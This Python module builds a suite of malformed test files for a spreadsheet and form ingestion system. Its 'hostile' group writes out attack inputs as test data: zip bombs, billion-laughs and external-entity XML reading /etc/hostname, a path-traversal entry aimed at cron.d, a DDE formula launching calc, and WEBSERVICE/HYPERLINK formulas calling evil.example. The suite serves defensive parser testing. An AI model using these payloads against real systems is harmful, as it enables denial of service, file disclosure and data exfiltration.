"""Builds the museum: ``python -m tests.bad_files.build``. The same code gives the same bytes.

What each file must give, and where its trap comes from, stands in ``expected.yaml``, written by hand.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

from ingest.forms.contract import column_letter
from ingest.forms.filling import DateCell, ErrorCell, Formula, SheetEdits
from tests.bad_files.legacy_traps import legacy
from tests.bad_files.odd_spellings import odd_but_good
from tests.bad_files.surgery import (
    EVENT,
    FIRST_VERSIONS,
    OGRN,
    TRIAL,
    added,
    changed,
    csv_p2,
    put_together,
    requisites,
    s1,
    s3,
    s5,
    take_apart,
)

FILES = Path(__file__).parent / "files"
EVENTS, CARD, COVERAGE, GRADES = "Мероприятия", "Реквизиты", "Охват", "Контингент"
SHEET1, SHEET2 = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"
STRINGS = "xl/sharedStrings.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def hostile() -> dict[str, bytes]:
    """Containers and XML made to hurt the program that opens them."""
    good = s3()
    parts = take_apart(good)
    huge = parts[SHEET2].decode().replace("</sheetData>", "</sheetData>" + " " * 9_000_000).encode()
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE sst [<!ENTITY l0 "ха">{laughs}]>'
    external = '<!DOCTYPE sst [<!ENTITY secret SYSTEM "file:///etc/hostname">]>'
    return {
        "zip_bomb.xlsx": put_together({**parts, SHEET2: huge}),
        "zip_bomb_lying.xlsx": _lying(good, SHEET2),
        "far_cell.xlsx": changed(good, SHEET1, ("</sheetData>", far)),
        "wide_row.xlsx": changed(good, SHEET1, ('</row><row r="5"', f'{_wide_row(4)}</row><row r="5"')),
        "billion_laughs.xlsx": changed(
            good, STRINGS, ("<sst", f"{laughs}<sst"), ("<si><t>МБОУ", "<si><t>&l9;МБОУ")
        ),
        "external_entity.xlsx": added(
            good,
            {
                STRINGS: parts[STRINGS]
                .decode()
                .replace('"UTF-8"', '"UTF-16"')
                .replace("<sst", f"{external}<sst")
                .encode("utf-16")
            },
        ),
        "path_trick.xlsx": added(good, {"../../../../etc/cron.d/orientir": b"* * * * * root true"}),
        "duplicate_part.xlsx": added(good, {"xl/worksheets/SHEET2.xml": parts[SHEET2]}),
        "macros.xlsx": added(
            changed(good, "[Content_Types].xml", ("sheet.main+xml", "sheet.macroEnabled.main+xml")),
            {"xl/vbaProject.bin": OLE + bytes(64)},
        ),
        "external_links.xlsx": added(
            good, {"xl/externalLinks/externalLink1.xml": HEAD.encode() + b"<externalLink/>"}
        ),
        "embedded_object.xlsx": added(good, {"xl/embeddings/oleObject1.bin": OLE + bytes(64)}),
        "hyperlink_formula.xlsx": s3({"title": Formula('HYPERLINK("http://evil.example","Проба")', "Проба")}),
        "dde_formula.xlsx": s3({"participants_total": Formula("cmd|' /C calc'!A0", 0)}),
        "webservice_formula.xlsx": s3({"winners": Formula('WEBSERVICE("http://evil.example?"&B4)', 0)}),
        "csv_injection.csv": csv_p2(TRIAL.replace("Проба «Сварщик»", "=HYPERLINK(0)")).encode(),
    }


def foreign() -> dict[str, bytes]:
    """Files that are not what their names say, or not whole."""
    good = s3()
    return {
        "renamed_program.xlsx": b"MZ\x90\x00" + bytes(124) + b"This program cannot be run in DOS mode.",
        "renamed_pdf.xlsx": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "html_table.xls": "<html><table><tr><td>ОГРН</td></tr></table></html>".encode(),
        "spreadsheet_2003.xls": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
        "word_document.xlsx": put_together(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}
        ),
        "zip_of_forms.xlsx": put_together({"S3.xlsx": good}),
        "binary_workbook.xlsx": put_together(
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01"}
        ),
        "truncated.xlsx": good[: len(good) // 2],
        "damaged_part.xlsx": _damaged(good),
        "empty.xlsx": b"",
        "lost_strings.xlsx": changed(
            good, SHEET1, ('<c r="B6" s="5" t="s"><v>9</v></c>', '<c r="B6" s="5" t="s"><v>999</v></c>')
        ),
        "unordered_rows.xlsx": changed(good, SHEET1, ('<row r="7"', '<row r="2"')),
        "same_cell_twice.xlsx": changed(good, SHEET1, ('<c r="A7"', '<c r="B7"')),
        "same_sheet_twice.xlsx": changed(good, "xl/workbook.xml", ('name="Охват"', 'name="РЕКВИЗИТЫ"')),
        "someone_elses_workbook.xlsx": _someone_elses(),
        "next_years_version.xlsx": s3(edits={"_meta": SheetEdits({"B2": "9.0.0"})}),
        "form_by_csv.csv": "Форма;S1;1.0.0\nОГРН организации;1\n".encode(),
        "no_form_line.csv": "Дата пробы;Класс\n14.10.2025;8\n".encode(),
        "unclosed_quote.csv": csv_p2(TRIAL.replace("Проба «Сварщик»", '"Проба')).encode(),
        "binary_inside.csv": csv_p2(TRIAL).encode().replace("Сварщик".encode(), b"\x00\x01"),
    }


def displaced() -> dict[str, bytes]:
    """Template drift: everything is there, but not where it was."""
    header = {f"{column_letter(n)}3": None for n in range(1, 18)}
    titles = list(_titles())
    shifted = {**header, **{f"{column_letter(n)}5": title for n, title in enumerate(titles, start=1)}}
    shifted |= {f"{column_letter(n)}4": None for n in range(1, 18)}
    shifted |= {f"{column_letter(n)}6": value for n, value in enumerate(_printed_event(), start=1)}
    swapped = {"D3": titles[4], "E3": titles[3], "D4": "школьный", "E4": "профпроба"}
    three = s3({}, {}, {}, edits={EVENTS: SheetEdits({"A4": date(2025, 10, 14)}, merged=("B4:B6",))})
    return {
        "header_shifted.xlsx": s3(edits={EVENTS: SheetEdits(shifted)}),
        "column_renamed.xlsx": s3(edits={EVENTS: SheetEdits({"N3": "Всего человек"})}),
        "columns_swapped.xlsx": s3(edits={EVENTS: SheetEdits(swapped)}),
        "column_missing.xlsx": s3(edits={EVENTS: SheetEdits({"Q3": None, "Q4": None})}),
        "column_twice.xlsx": s3(edits={EVENTS: SheetEdits({"R3": "Участников всего", "R4": 24})}),
        "column_added.xlsx": s3(
            edits={EVENTS: SheetEdits({"R3": "Примечание", "R4": "перенесли с сентября"})}
        ),
        "pupils_listed.xlsx": s3(
            edits={EVENTS: SheetEdits({"R3": "ФИО обучающихся", "R4": "Иванов И., Петров П."})}
        ),
        "no_header.xlsx": s3(edits={EVENTS: SheetEdits(header)}),
        "merged_rows.xlsx": three,
        "hidden_rows.xlsx": s3({}, {}, edits={EVENTS: SheetEdits(hidden_rows=frozenset({5}))}),
        "hidden_column.xlsx": _hidden_column(),
        "hidden_sheet.xlsx": changed(
            s3(), "xl/workbook.xml", ('name="Охват" sheetId="3"', 'name="Охват" sheetId="3" state="hidden"')
        ),
        "totals_row.xlsx": s3({}, edits={EVENTS: SheetEdits({"A5": "Итого", "N5": 24})}),
        "last_years_sheet.xlsx": _last_years_sheet(),
        "sheet_renamed.xlsx": changed(s3(), "xl/workbook.xml", ('name="Охват"', 'name="Охват 4 кв"')),
        "sheet_deleted.xlsx": _sheet_deleted(),
        "grade_deleted.xlsx": s1(edits={GRADES: SheetEdits({f"{c}7": None for c in "ABCDEFGH"})}),
        "grade_renamed.xlsx": s1(edits={GRADES: SheetEdits({"A7": "девятые классы"})}),
        "grade_twice.xlsx": s5(edits={"Намерения": SheetEdits({"A6": "9 класс", "B6": 1})}),
        "label_renamed.xlsx": s1(edits={"Паспорт": SheetEdits({"A9": "Сколько ответственных"})}),
        "label_moved.xlsx": s3(
            edits={
                CARD: SheetEdits(
                    {"A4": "ИНН организации", "B4": "7400000001", "A5": "ОГРН организации", "B5": OGRN}
                )
            }
        ),
        "note_beside.xlsx": s3(edits={CARD: SheetEdits({"D6": "уточнить название"})}),
        "card_merged.xlsx": s1(edits={"Паспорт": SheetEdits(merged=("B14:B15",))}),
        "too_many_rows.xlsx": s3(*({} for _ in range(2001))),
    }


def junk() -> dict[str, bytes]:
    """Values that are not values."""
    return {
        "four_of_eight.xlsx": s3({"participants_total": "4 из 8"}),
        "false_in_number.xlsx": s3({"participants_total": False}, {"participants_total": "ЛОЖЬ"}),
        "division_by_zero.xlsx": s3({"participants_total": ErrorCell("#DIV/0!")}),
        "formula_not_computed.xlsx": s1(grades={"total": {"students": Formula("SUM(B4:B9)")}}),
        "date_in_code.xlsx": s3({"measure_code": DateCell(date(2025, 4, 4))}),
        "date_in_number.xlsx": s3({"participants_ovz": DateCell(date(2025, 2, 1))}),
        "number_as_date.xlsx": s1(card={"site_section_updated_on": "сентябрь 2025"}),
        "impossible_date.csv": csv_p2(TRIAL.replace("14.10.2025", "31.02.2025")).encode(),
        "exponent.xlsx": s3({"participants_total": "1e3"}),
        "percent_text.xlsx": s1(grades={"6": {"profminimum_students": "100%"}}),
        "percent_format.xlsx": _percent_format(),
        "fraction.xlsx": s3({"participants_total": 24.5}),
        "number_too_large.xlsx": s3({"participants_total": 99_999_999_999}),
        "four_absences.xlsx": s1(
            card={
                "responsible_count": "нет данных",
                "profminimum_hours_plan": "—",
                "site_checklist_count": None,
                "site_section_url": "-",
            }
        ),
        "yes_in_words.xlsx": s1(card={"has_order": "конечно"}),
        "kind_not_listed.xlsx": s3({"activity_kind": "мастер-класс"}),
        "null_character.xlsx": s3({"title": "Проба\x00Оператор"}),
        "half_a_character.json": _c1({"organisation_name": "ЦЗН \ud83d"}),
        "names_in_count.xlsx": s3({"participants_total": "Иванов Пётр, Сидорова А. И."}),
        "snils_in_title.xlsx": s3({"title": "Проба, участник 112-233-445 95"}),
        "passport_in_note.xlsx": s3(edits={EVENTS: SheetEdits({"T9": "паспорт 75 12 № 123456"})}),
        "neighbours_file.xlsx": s3(card={"ogrn": "1027400000023"}),
        "future_quarter.xlsx": s3(card={"period": "2031-Q1"}),
        "year_for_quarter.xlsx": s3(card={"period": "2025-2026"}),
        "no_period.xlsx": s3(card={"period": None}),
        "before_the_form.xlsx": s3(card={"period": "2023-Q4"}),
        "deep.json": ("[" * 200 + "]" * 200).encode(),
        "duplicate_key.json": _c1({}).replace(b'"inn"', b'"service_group": 5, "inn"'),
        "not_a_number.json": _c1({}).replace(b"118", b"NaN"),
        "huge_number.json": _c1({}).replace(b"118", b"9" * 5000),
        "key_missing.json": _c1({"service_group": ...}),
        "key_added.json": _c1({"comment": "за январь–октябрь"}),
        "nested_value.json": _c1({"service_group": {"men": 1, "women": 2}}),
        "true_for_number.json": _c1({"service_group": True}),
        "cut_off.json": _c1({})[:-20],
        "list_of_forms.json": b"[1, 2]",
    }


def _c1(changes: dict[str, Any]) -> bytes:
    data: dict[str, Any] = {
        **requisites("2025-10"),
        "organisation_name": "ОКУ ЦЗН",
        "service_plan_year": 1200,
        "service_fact_cumulative": 950,
        "service_age_14_17": 700,
        "service_disabled": 40,
        "service_individual": 832,
        "service_group": 118,
    }
    data = {k: v for k, v in {**data, **changes}.items() if v is not ...}
    text = json.dumps({"form": "C1", "version": "1.0.0", "data": data}, ensure_ascii=True, indent=1)
    return text.encode()


def _titles() -> list[str]:
    from ingest.forms.catalogue import contract

    return [field.title for field in contract("S3", FIRST_VERSIONS).section("events").fields]


def _printed_event() -> list[Any]:
    from ingest.forms.catalogue import contract
    from ingest.forms.filling import printed

    fields = contract("S3", FIRST_VERSIONS).section("events").fields
    values = [printed(field, EVENT[field.name]) for field in fields]
    return [DateCell(values[0]), *values[1:]]


def _wide_row(row: int) -> str:
    return "".join(f'<c r="{column_letter(n)}{row}" t="n"><v>1</v></c>' for n in range(250, 260))


def _lying(content: bytes, part: str) -> bytes:
    """The directory says the part is 100 bytes long."""
    position = content.rfind(part.encode()) - 46
    return content[: position + 24] + struct.pack("<I", 100) + content[position + 28 :]


def _damaged(content: bytes) -> bytes:
    position = content.find(SHEET2.encode()) + len(SHEET2) + 200
    return content[:position] + bytes(20) + content[position + 20 :]


def _someone_elses() -> bytes:
    content = s5()
    for part, old, new in (
        ("xl/workbook.xml", 'name="Намерения"', 'name="Лист1"'),
        ("xl/workbook.xml", 'name="Реквизиты"', 'name="Бюджет"'),
        ("xl/workbook.xml", 'name="_meta"', 'name="Лист3"'),
    ):
        content = changed(content, part, (old, new))
    text = take_apart(content)[STRINGS].decode()
    for number, word in enumerate(
        (
            "класс",
            "Выпуск",
            "Опрошено",
            "Поступят",
            "Пойдут",
            "ОГРН",
            "Продолжат",
            "Не опред",
            "из опрош",
            "Наименование",
            "Учебный",
            "ИНН",
        )
    ):
        text = text.replace(word, f"статья {number} ")
    return added(content, {STRINGS: text.encode()})


def _hidden_column() -> bytes:
    return changed(s3(), SHEET2, ('<col min="3" max="3"', '<col min="3" max="3" hidden="1"'))


def _last_years_sheet() -> bytes:
    content = changed(
        s1(),
        "xl/workbook.xml",
        ("</sheets>", '<sheet name="Контингент 2024" sheetId="9" r:id="rId99"/></sheets>'),
    )
    content = changed(
        content,
        "xl/_rels/workbook.xml.rels",
        (
            "</Relationships>",
            f'<Relationship Id="rId99" Type="{OFFICE}/worksheet" Target="worksheets/sheet9.xml"/>'
            "</Relationships>",
        ),
    )
    rows = '<sheetData><row r="1"><c r="A1"><v>51</v></c></row></sheetData>'
    old = f'{HEAD}<worksheet xmlns="{MAIN}">{rows}</worksheet>'
    return added(content, {"xl/worksheets/sheet9.xml": old.encode()})


def _sheet_deleted() -> bytes:
    parts = take_apart(s3())
    text = parts["xl/workbook.xml"].decode()
    start = text.index('<sheet name="Охват"')
    end = text.index("/>", start) + 2
    parts["xl/workbook.xml"] = (text[:start] + text[end:]).encode()
    return put_together(parts)


def _percent_format() -> bytes:
    content = changed(s1(), "xl/styles.xml", ("</cellXfs>", '<xf numFmtId="9"/></cellXfs>'))
    styles = take_apart(content)["xl/styles.xml"].decode()
    last = styles.partition("<cellXfs")[2].partition("</cellXfs>")[0].count("<xf ") - 1
    return changed(content, SHEET2, ('<c r="H4" s="6"><v>50</v>', f'<c r="H4" s="{last}"><v>1</v>'))


GROUPS: tuple[Callable[[], dict[str, bytes]], ...] = (
    hostile,
    foreign,
    displaced,
    junk,
    legacy,
    odd_but_good,
)


def build() -> dict[str, bytes]:
    """All files of the museum by name."""
    return {name: content for group in GROUPS for name, content in group().items()}


def main() -> None:
    """Writes the museum and removes what it no longer holds."""
    FILES.mkdir(exist_ok=True)
    files = build()
    for path in FILES.iterdir():
        if path.name not in files:
            path.unlink()
    for name, content in files.items():
        (FILES / name).write_bytes(content)


if __name__ == "__main__":
    main()
